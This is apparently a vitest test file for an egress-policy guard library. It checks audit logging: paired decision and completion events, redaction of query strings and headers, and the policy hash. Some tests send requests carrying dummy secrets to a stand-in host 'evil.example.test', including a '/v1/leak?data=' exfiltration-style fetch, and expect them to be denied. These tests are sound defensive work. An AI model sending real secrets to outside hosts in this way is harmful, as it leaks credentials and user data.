/**
 * The audit trail: one decision and one completion event per request (tied by egress.id), query
 * strings redacted unless asked, no header values anywhere, and the policy hash on every event.
 */
import pino from 'pino';
import { request } from 'undici';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { install, uninstall } from '../src/index.js';
import {
  createTestPki,
  type EventSink,
  eventSink,
  lookupVia,
  loopbackRule,
  policyOf,
  type RecordingServer,
  rejection,
  startDnsServer,
  startHttpsServer,
  type TestDnsServer,
  type TestPki,
} from './fixtures/harness.js';

let pki: TestPki;
let dns: TestDnsServer;
let api: RecordingServer;
let sink: EventSink;
let raw: string[];

const SECRET = 'Bearer s3cr3t-t0ken-value';
const QUERY_SECRET = 'q5ecret';
const url = (host: string, path: string) => `https://${host}:${api.port}${path}`;

function installWith(options: { logQueryStrings?: boolean } = {}) {
  sink = eventSink();
  raw = [];
  const destination = {
    write(line: string) {
      raw.push(line);
      sink.write(line);
    },
  };
  return install({
    policy: policyOf({
      allow: [
        loopbackRule('api', ['api.example.test'], { breaker: { volumeThreshold: 2, resetTimeout: '10s' } }),
      ],
    }),
    lookup: lookupVia(dns),
    ca: pki.caCertPem,
    destination,
    ...options,
  });
}

beforeAll(async () => {
  pki = await createTestPki();
  dns = await startDnsServer({
    'api.example.test': [{ type: 'A', data: '127.0.0.1' }],
    'evil.example.test': [{ type: 'A', data: '127.0.0.1' }],
  });
  api = await startHttpsServer({
    pki,
    names: ['api.example.test'],
    handler: (req, res) => {
      const fail = req.url?.startsWith('/fail');
      res.writeHead(fail ? 500 : 200, { 'set-cookie': `session=${SECRET}` });
      res.end('body');
    },
  });
});

afterEach(async () => {
  await uninstall();
  api.reset();
});

afterAll(async () => {
  await Promise.all([api.close(), dns.close()]);
  await pki.cleanup();
});

describe('one decision and one completion per request', () => {
  it('N fetches (allowed and denied) → exactly N decisions and N completions, paired by egress.id', async () => {
    const guard = installWith();
    const N = 6;
    for (let i = 0; i < N; i++) {
      if (i % 3 === 2) {
        await rejection(fetch(url('evil.example.test', `/v1/${i}`)));
      } else {
        const res = await fetch(url('api.example.test', `/v1/${i}`), {
          method: i % 2 ? 'POST' : 'GET',
          body: i % 2 ? 'x' : undefined,
        });
        await res.text();
      }
    }
    const decisions = sink.decisions();
    const completions = sink.completions();
    expect(decisions).toHaveLength(N);
    expect(completions).toHaveLength(N);
    expect(completions.map((e) => e['egress.id'])).toEqual(decisions.map((e) => e['egress.id']));
    expect(new Set(decisions.map((e) => e['egress.id'])).size).toBe(N);
    expect(decisions.map((e) => e['egress.decision'])).toEqual([
      'allowed',
      'allowed',
      'denied',
      'allowed',
      'allowed',
      'denied',
    ]);
    expect(completions.map((e) => e['egress.outcome'])).toEqual(['ok', 'ok', 'denied', 'ok', 'ok', 'denied']);
    const ok = completions[0]!;
    expect(ok).toMatchObject({
      'egress.hook': 'fetch',
      'egress.rule': 'api',
      'http.response.status_code': 200,
      'egress.bytes.received': 4,
      'server.address': 'api.example.test',
      'server.port': api.port,
      'egress.policy.hash': guard.policy.hash,
    });
    expect(typeof ok['egress.duration_ms']).toBe('number');
  });

  it('undici.request: the same pairing', async () => {
    installWith();
    for (let i = 0; i < 3; i++) await (await request(url('api.example.test', `/v1/${i}`))).body.text();
    expect(sink.decisions()).toHaveLength(3);
    expect(sink.completions()).toHaveLength(3);
  });

  it('events follow the OpenTelemetry names and the versioned schema', async () => {
    installWith();
    await (await fetch(url('api.example.test', '/v1/items'))).text();
    const [decision] = sink.decisions();
    expect(decision).toMatchObject({
      'event.name': 'egress.decision',
      'egress.schema': 1,
      'egress.source': 'sdk',
      'url.scheme': 'https',
      'url.path': '/v1/items',
      'server.address': 'api.example.test',
      'server.port': api.port,
      'http.request.method': 'GET',
      'egress.mode': 'enforce',
      'egress.reason': 'allowed',
    });
  });
});

describe('secrets are not logged', () => {
  it('query strings are redacted by default', async () => {
    installWith();
    await (await fetch(url('api.example.test', `/v1/search?token=${QUERY_SECRET}&q=1`))).text();
    await rejection(fetch(url('evil.example.test', `/v1/leak?data=${QUERY_SECRET}`)));
    expect(sink.decisions().map((e) => e['url.full'])).toEqual([
      url('api.example.test', '/v1/search?REDACTED'),
      url('evil.example.test', '/v1/leak?REDACTED'),
    ]);
    expect(raw.join('')).not.toContain(QUERY_SECRET);
  });

  it('logQueryStrings: true keeps them', async () => {
    installWith({ logQueryStrings: true });
    await (await fetch(url('api.example.test', `/v1/search?token=${QUERY_SECRET}`))).text();
    expect(sink.decisions()[0]!['url.full']).toBe(
      url('api.example.test', `/v1/search?token=${QUERY_SECRET}`),
    );
  });

  it('no header value (request or response) appears in any event', async () => {
    installWith();
    const headers = { authorization: SECRET, cookie: `sid=${SECRET}`, 'x-api-key': SECRET };
    await (await fetch(url('api.example.test', '/v1/x'), { headers })).text();
    await (await request(url('api.example.test', '/v1/y'), { headers })).body.text();
    await rejection(fetch(url('evil.example.test', '/v1/x'), { headers }));
    expect(api.requests[0]?.headers.authorization).toBe(SECRET);
    expect(raw.length).toBeGreaterThan(0);
    expect(raw.join('')).not.toContain('s3cr3t');
  });
});

describe('the policy hash', () => {
  it('is on every event: loaded, decisions, completions, breaker state changes', async () => {
    const guard = installWith();
    await (await fetch(url('api.example.test', '/v1/x'))).text();
    await rejection(fetch(url('evil.example.test', '/v1/x')));
    for (let i = 0; i < 2; i++) await (await fetch(url('api.example.test', '/fail'))).text();
    expect(sink.named('egress.breaker.state')).toHaveLength(1);
    const names = new Set(sink.events.map((e) => e['event.name']));
    expect(names).toEqual(
      new Set(['egress.policy.loaded', 'egress.decision', 'egress.completion', 'egress.breaker.state']),
    );
    for (const event of sink.events)
      expect(event['egress.policy.hash'], String(event['event.name'])).toBe(guard.policy.hash);
  });
});

describe('where events go', () => {
  it("through the application's pino logger, as child lines marked egress: true", async () => {
    const lines: Array<Record<string, unknown>> = [];
    const logger = pino({ base: { app: 'demo' } }, { write: (line: string) => lines.push(JSON.parse(line)) });
    install({
      policy: policyOf({ allow: [loopbackRule('api', ['api.example.test'])] }),
      lookup: lookupVia(dns),
      ca: pki.caCertPem,
      logger,
    });
    await (await fetch(url('api.example.test', '/v1/x'))).text();
    const decision = lines.find((l) => l['event.name'] === 'egress.decision');
    expect(decision).toMatchObject({ app: 'demo', egress: true, 'egress.decision': 'allowed' });
  });

  it('denials are logged at warn, allowed decisions at info', async () => {
    installWith();
    await (await fetch(url('api.example.test', '/v1/x'))).text();
    await rejection(fetch(url('evil.example.test', '/v1/x')));
    expect(sink.decisions().map((e) => e.level)).toEqual([30, 40]);
  });
});
